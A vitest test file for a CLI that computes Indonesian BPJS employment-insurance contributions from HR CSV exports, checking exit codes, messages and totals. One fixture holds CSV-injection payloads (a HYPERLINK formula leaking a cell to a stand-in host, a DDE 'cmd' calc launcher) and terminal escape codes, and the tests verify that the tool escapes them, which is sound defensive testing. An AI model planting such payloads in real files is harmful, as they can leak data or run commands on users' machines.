// The payroll door as people use it: generated files shaped like Indonesian HR exports, each run through the
// built CLI as a child process, checking the exit code (0 all priced, 1 some rows failed, 2 usage/file/format
// error), what is on stdout and stderr, and that no stack trace ever shows. Figures are worked out by hand from
// the rates (PP 44/2015 JKK 0.24%–1.74%, JKM 0.30%; PP 46/2015 JHT 3.7% + 2%; PP 45/2015 JP 2% + 1% of the wage
// up to the 2025 cap Rp10,547,400; PP 37/2021 JKP: 0.22% from the government on the wage up to Rp5,000,000).
import { spawn, spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { cli, ensureCli } from './built-cli.js'

const work = mkdtempSync(join(tmpdir(), 'bpjs-tk-doors-'))
beforeAll(ensureCli, 180_000)
afterAll(() => rmSync(work, { recursive: true, force: true }))

interface Run {
  readonly code: number | null
  readonly stdout: string
  readonly stderr: string
}

function run(args: readonly string[], input?: string): Run {
  const r = spawnSync(process.execPath, [cli, ...args], { cwd: work, encoding: 'utf8', input, maxBuffer: 256 * 1024 * 1024 })
  return { code: r.status, stdout: r.stdout, stderr: r.stderr }
}

/** No stack trace, no Node internals, in any output. */
function noStack(r: Run): void {
  for (const text of [r.stdout, r.stderr]) {
    expect(text).not.toMatch(/\n\s+at .+\(.*:\d+:\d+\)/)
    expect(text).not.toMatch(/node:internal|ERR_|TypeError|RangeError/)
  }
}

const file = (name: string, text: string) => {
  writeFileSync(join(work, name), text)
  return name
}

/** Rupiah the Indonesian way: 14.146.000 */
const idr = (n: number) => String(n).replace(/\B(?=(\d{3})+(?!\d))/g, '.')

describe('a 20,000-row HR export: semicolons, BOM, CRLF, Indonesian headers, numbers and words', () => {
  const N = 20_000
  const JKK_PER_10000 = [24, 54, 89, 127, 174]
  const SIZES = ['mikro', 'kecil', 'sedang', 'besar'] // JP only for medium and large (sedang, besar)
  const JP_CAP = 10_547_400
  const JKP_CAP = 5_000_000
  let employer = 0
  let worker = 0
  let government = 0
  const lines = ['NIK;Nama Karyawan;Gaji Pokok;Kelas Risiko;Skala Usaha;Terdaftar JKP;Periode']
  for (let i = 0; i < N; i++) {
    // wages in whole tens of thousands (every line exact): Rp3,000,000 … Rp22,990,000
    const w = 3_000_000 + ((i * 7919) % 2000) * 10_000
    const c = i % 5
    const size = SIZES[i % 4] ?? 'besar'
    const jkp = i % 3 === 0
    // three ways HR software writes the same amount
    const cell = i % 3 === 0 ? idr(w) : i % 3 === 1 ? `Rp ${idr(w)},00` : `Rp${idr(w)},-`
    lines.push(`${3171000000000000 + i};Pegawai ${i};${cell};${c + 1};${size};${jkp ? 'ya' : 'tidak'};2025-06`)
    if (i % 1000 === 999) lines.push(';;;;;;') // all-empty rows, as exports leave them: skipped
    const jp = size === 'sedang' || size === 'besar'
    employer += (w * ((JKK_PER_10000[c] ?? 0) + 30 + 370)) / 10_000 + (jp ? (Math.min(w, JP_CAP) * 2) / 100 : 0)
    worker += (w * 2) / 100 + (jp ? Math.min(w, JP_CAP) / 100 : 0)
    if (jkp) government += (Math.min(w, JKP_CAP) * 22) / 10_000
  }
  const name = file('ekspor-hr.csv', `\uFEFF${lines.join('\r\n')}\r\n`)

  it('prices every row (exit 0) without any option: delimiter and number format found, totals by hand', () => {
    const r = run(['iuran', '--csv', name, '--output', 'hasil.csv'])
    noStack(r)
    expect(r.stderr).toContain('20.000 baris dibaca, 20.000 dihitung, 0 gagal')
    expect(r.code).toBe(0)
    const out = readFileSync(join(work, 'hasil.csv'), 'utf8').trim().split('\n')
    // one row per worker, then the grand total
    expect(out).toHaveLength(1 + N + 1)
    const header = (out[0] ?? '').split(',')
    const total = (out.at(-1) ?? '').split(',')
    const at = (col: string) => Number(total[header.indexOf(col)])
    expect([at('employer'), at('worker'), at('government')]).toEqual([employer, worker, government])
    // the NIK stays text, digit for digit; the wage is the number the person wrote
    const first = (out[1] ?? '').split(',')
    expect(first[header.indexOf('nik')]).toBe('3171000000000000')
    expect(first[header.indexOf('wage')]).toBe('3000000')
  }, 120_000)

  it('the same file with --format json and --lang en: valid JSON, English summary', () => {
    const r = run(['iuran', '--csv', name, '--format', 'json', '--lang', 'en'])
    noStack(r)
    expect(r.code).toBe(0)
    const rows = JSON.parse(r.stdout) as Record<string, unknown>[]
    expect(rows).toHaveLength(N + 1)
    expect(rows.at(-1)).toMatchObject({ row: 'total', employer, worker, government })
    expect(r.stderr).toContain('20,000 rows read, 20,000 priced, 0 failed')
  }, 120_000)
})

describe('rows a person can get wrong: each one a row error, the rest priced', () => {
  // A: 5,000,000 class I large → employer 12,000 + 15,000 + 185,000 + 100,000 = 312,000; worker 150,000
  // C: 12,000,000 class II medium, JKP → employer 64,800 + 36,000 + 444,000 + 210,948 = 755,748 of which
  //    JKK 7,000 (0.14% × 5,000,000) to the JKP fund; worker 240,000 + 105,474 = 345,474; government 11,000
  const csv = [
    'id;nama;upah;kelas risiko;skala usaha;terdaftar jkp;periode',
    'A;"=HYPERLINK(""http://x.example/?""&A1;""klik"")";5.000.000;1;besar;tidak;2025-06',
    'B;Budi;4.000.000;1', // ragged: 4 cells, the header has 7
    ';;;;;;',
    '',
    'C;+cmd|\' /C calc\'!A0;12.000.000;2;sedang;ya;2025-06',
    'D;@SUM(A1);lima juta;1;besar;tidak;2025-06',
    'E;Evil\u001b[2J\u0007\u009b31m\u202e;3.000.000;9;besar;tidak;2025-06',
  ].join('\n')
  const name = file('salah.csv', `${csv}\n`)

  it('exit 1, every bad row named by its line, formula cells escaped, terminal codes made visible', () => {
    const r = run(['iuran', '--csv', name, '--errors', 'galat.csv'])
    noStack(r)
    expect(r.code).toBe(1)
    expect(r.stderr).toContain('baris 3 (B): baris ini punya 4 sel, header punya 7; baris dilewati [ROW_CELL_COUNT]')
    expect(r.stderr).toContain('baris 7 (D): wage: kolom wage: "lima juta" bukan angka dalam format Indonesia')
    expect(r.stderr).toMatch(/baris 8 \(E\): jkkRiskClass: .*\[INVALID_VALUE\]/)
    expect(r.stderr).toContain('5 baris dibaca, 2 dihitung, 3 gagal')
    // no raw control character on the terminal
    // eslint-disable-next-line no-control-regex
    expect(r.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/)
    const out = r.stdout.trim().split('\n')
    const header = (out[0] ?? '').split(',')
    expect(header.slice(0, 3)).toEqual(['row', 'id', 'name'])
    const a = out.find((l) => l.startsWith('2,A,'))
    expect(a).toContain(`"'=HYPERLINK(""http://x.example/?""&A1;""klik"")"`)
    const c = (out.find((l) => l.startsWith('6,C,')) ?? '').split(',')
    expect(c[1]).toBe('C')
    expect(c[2]).toBe("'+cmd|' /C calc'!A0")
    const cell = (col: string) => Number(c[header.indexOf(col)])
    expect([cell('JKK_employer'), cell('JKK_to_JKK_fund'), cell('JKK_to_JKP_fund')]).toEqual([64_800, 57_800, 7_000])
    expect([cell('employer'), cell('worker'), cell('government')]).toEqual([755_748, 345_474, 11_000])
    // grand total 312,000 + 150,000 + 755,748 + 345,474 + 11,000
    const total = (out.at(-1) ?? '').split(',')
    expect(Number(total[header.indexOf('total')])).toBe(1_574_222)
    // the errors file: every error, its text cells escaped too
    const errors = readFileSync(join(work, 'galat.csv'), 'utf8').trim().split('\n')
    expect(errors[0]).toBe('row,id,path,code,message')
    expect(errors.slice(1).map((e) => e.split(',').slice(0, 4).join(','))).toEqual([
      '3,B,,ROW_CELL_COUNT',
      '7,D,wage,NUMBER_UNREADABLE',
      '8,E,jkkRiskClass,INVALID_VALUE',
    ])
  })

  it('--layout line --excel: semicolons, decimal comma, rates as percentages, the split line with its gross', () => {
    const r = run(['iuran', '--csv', name, '--layout', 'line', '--excel'])
    noStack(r)
    expect(r.code).toBe(1)
    expect(r.stdout.startsWith('\uFEFFrow;id;name;period;category;record;program;payer;fund;base;rate;amount')).toBe(true)
    expect(r.stdout).toContain('\r\n')
    expect(r.stdout).toContain(";line;JKK;employer;JKK;12000000;0,54%;57800;;;;;;64800\r\n")
    expect(r.stdout).toContain(';line;JKK;employer;JKP;5000000;0,14%;7000;;;;;;\r\n')
  })

  it('--format ndjson: one JSON object per line, the NIK-like ids as text', () => {
    const r = run(['iuran', '--csv', name, '--format', 'ndjson'])
    expect(r.code).toBe(1)
    const objs = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>)
    expect(objs.map((o) => o.row)).toEqual([2, 6, 'total'])
    expect(objs[1]).toMatchObject({ id: 'C', JKK_employer: 64_800, JKK_to_JKP_fund: 7_000 })
  })
})

describe('errors grouped: the first few per code on screen, counts after, all of them in --errors', () => {
  it('3,000 unreadable wages: 10 shown, "… and 2.990 more", 3,000 in the file, a small stderr', () => {
    const rows = ['nik,wage,kelas risiko,skala usaha,periode']
    for (let i = 0; i < 3000; i++) rows.push(`${3171000000000000 + i},lima juta,1,besar,2025-06`)
    rows.push('9171234567890123,5000000,1,besar,2025-06')
    const name = file('banyak-galat.csv', `${rows.join('\n')}\n`)
    const r = run(['iuran', '--csv', name, '--errors', 'semua-galat.csv'])
    noStack(r)
    expect(r.code).toBe(1)
    expect(r.stderr.match(/\[NUMBER_UNREADABLE\]/g)).toHaveLength(10)
    expect(r.stderr).toContain('… dan 2.990 galat lain berkode NUMBER_UNREADABLE (semuanya ada di semua-galat.csv)')
    expect(r.stderr.length).toBeLessThan(4000)
    expect(readFileSync(join(work, 'semua-galat.csv'), 'utf8').trim().split('\n')).toHaveLength(3001)
    // the one good row: its NIK (above 2^53) stays exact
    expect(r.stdout).toContain('3002,9171234567890123,2025-06,PU,5000000,')
  })
})

describe('files and options that cannot work: exit 2, one clear message, no stack trace', () => {
  const payroll = file('ok.csv', 'id,wage,jkkRiskClass,enterpriseSize,period\nA,5000000,1,large,2025-06\n')
  mkdirSync(join(work, 'folder'), { recursive: true })
  const cases: [string, string[], RegExp][] = [
    ['a missing file', ['iuran', '--csv', 'tidak-ada.csv'], /Tidak dapat membaca tidak-ada\.csv/],
    ['a directory', ['iuran', '--csv', 'folder'], /folder adalah folder, bukan berkas CSV/],
    ['--output in a missing folder', ['iuran', '--csv', payroll, '--output', 'no/such/dir.csv'], /Tidak dapat menulis no\/such\/dir\.csv/],
    ['--errors into a directory', ['iuran', '--csv', payroll, '--errors', 'folder'], /Tidak dapat menulis folder/],
    ["--delimiter ''", ['iuran', '--csv', payroll, '--delimiter', ''], /--delimiter: "" bukan satu karakter/],
    ['--format table with --csv', ['iuran', '--csv', payroll, '--format', 'table'], /pilih csv, json, ndjson atau xlsx/],
    ['--excel with json', ['iuran', '--csv', payroll, '--format', 'json', '--excel'], /--excel hanya untuk --format csv/],
    ['duplicate columns wage and upah', ['iuran', '--csv', file('dup.csv', 'id,wage,upah,jkkRiskClass\nA,1,2,1\n')], /"wage" = "upah"/],
    ['no wage column', ['iuran', '--csv', file('nowage.csv', 'nama,kelas\nA,1\n')], /tidak memuat kolom upah/],
    ['an empty file', ['iuran', '--csv', file('kosong.csv', '')], /Berkas kosong/],
    ['an unclosed quote', ['iuran', '--csv', file('kutip.csv', 'id,wage\nA,"5000000\nB,1\n')], /dibuka di baris 2 tidak pernah ditutup/],
    ['a binary file', ['iuran', '--csv', file('biner.csv', 'id,wage\n\u0000\u0001\u0002PK\u0003\u0004\n')], /bukan teks CSV/],
    ['a header typo with the progress bar forced', ['iuran', '--csv', file('typo.csv', 'id,wgae\nA,1\n'), '--progress'], /tidak memuat kolom upah/],
    [
      'a column mixing Indonesian and English numbers',
      ['iuran', '--csv', file('campur.csv', 'id;upah\nA;1.500.000\nB;2,500,000.00\n')],
      /mencampur .*--number-format id atau --number-format en/,
    ],
  ]
  it.each(cases)('%s', (_, args, message) => {
    const r = run(args)
    noStack(r)
    expect(r.code).toBe(2)
    expect(r.stderr).toMatch(message)
    expect(r.stderr.trim().split('\n')).toHaveLength(1)
  })

  it('a genuinely ambiguous column: ONE error naming --number-format for 40,000 rows, and the option settles it', () => {
    const rows = ['id,upah,kelas risiko,skala usaha,periode']
    for (let i = 0; i < 40_000; i++) rows.push(`W${i},1.500,1,besar,2025-06`)
    const name = file('ambigu.csv', `${rows.join('\n')}\n`)
    const r = run(['iuran', '--csv', name])
    noStack(r)
    expect(r.code).toBe(2)
    expect(r.stderr.trim().split('\n')).toEqual([
      'Galat: Kolom wage: "1.500" (baris 2) dapat berarti Rp1.500 (gaya Indonesia) atau Rp1,5 (gaya Inggris), dan tidak ada angka lain di kolom itu yang memastikannya. Tentukan dengan --number-format id atau --number-format en.',
    ])
    // read as Indonesian: Rp1,500 per worker; JKK 0.24% × 1,500 = 3.6 → 4 (half-up) … the library refuses a
    // wage this low? No: it prices it; the point here is that every row is read, none refused by the reader
    const id = run(['iuran', '--csv', name, '--number-format', 'id', '--show-errors', '1'])
    noStack(id)
    expect(id.stderr).toContain('40.000 baris dibaca')
    expect(id.stderr).not.toContain('NUMBER_UNREADABLE')
  }, 120_000)
})

describe('standard input and output', () => {
  it('reads the file from stdin (-) and decides numbers from its rows', () => {
    const r = run(['iuran', '--csv', '-', '--format', 'ndjson'], 'nama;upah;kelas risiko;skala usaha;periode\nA;5.000.000;1;besar;2025-06\n')
    noStack(r)
    expect(r.code).toBe(0)
    expect(JSON.parse(r.stdout.trim().split('\n')[0] ?? '{}')).toMatchObject({ name: 'A', wage: 5_000_000, total: 462_000 })
  })

  it('`| head -2` ends quietly: no EPIPE, no stack trace', async () => {
    const rows = ['id,wage,jkkRiskClass,enterpriseSize,period']
    for (let i = 0; i < 50_000; i++) rows.push(`W${i},5000000,1,large,2025-06`)
    file('pipa.csv', `${rows.join('\n')}\n`)
    const r = await new Promise<Run>((ok) => {
      const child = spawn('sh', ['-c', `"${process.execPath}" "${cli}" iuran --csv pipa.csv | head -2`], { cwd: work })
      let stdout = ''
      let stderr = ''
      child.stdout.on('data', (d: Buffer) => (stdout += d.toString()))
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()))
      child.on('close', (code) => ok({ code, stdout, stderr }))
    })
    noStack(r)
    expect(r.stderr).not.toContain('EPIPE')
    expect(r.stdout.trim().split('\n')).toHaveLength(2)
  }, 60_000)
})

describe('the column table the guides print', () => {
  it('iuran --columns prints every column with its Indonesian names and words, and the guides show it', () => {
    const r = run(['iuran', '--columns'])
    expect(r.code).toBe(0)
    expect(r.stdout).toMatch(/enterpriseSize\s+skala usaha, .*micro: mikro\/usaha-mikro; small: kecil; medium: sedang\/menengah; large: besar/)
    const guide = readFileSync(join(import.meta.dirname, '../../docs/guides/id/baris-perintah.md'), 'utf8')
    for (const line of r.stdout.trim().split('\n')) expect(guide).toContain(line.trimEnd())
    const en = run(['iuran', '--columns', '--lang', 'en'])
    const guideEn = readFileSync(join(import.meta.dirname, '../../docs/guides/en/cli.md'), 'utf8')
    for (const line of en.stdout.trim().split('\n')) expect(guideEn).toContain(line.trimEnd())
  })
})
